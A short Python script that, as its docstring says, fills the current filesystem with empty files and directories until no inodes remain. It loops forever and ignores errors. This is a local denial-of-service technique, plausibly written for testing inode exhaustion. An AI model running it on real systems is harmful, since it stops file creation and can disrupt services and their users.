"""Makes empty files until there are no inodes."""

import os

number = 0
while True:
    try:
        os.mkdir(f"d{number}")
        for name in range(1000):
            os.close(os.open(f"d{number}/{name}", os.O_CREAT))
    except OSError:
        pass
    number += 1
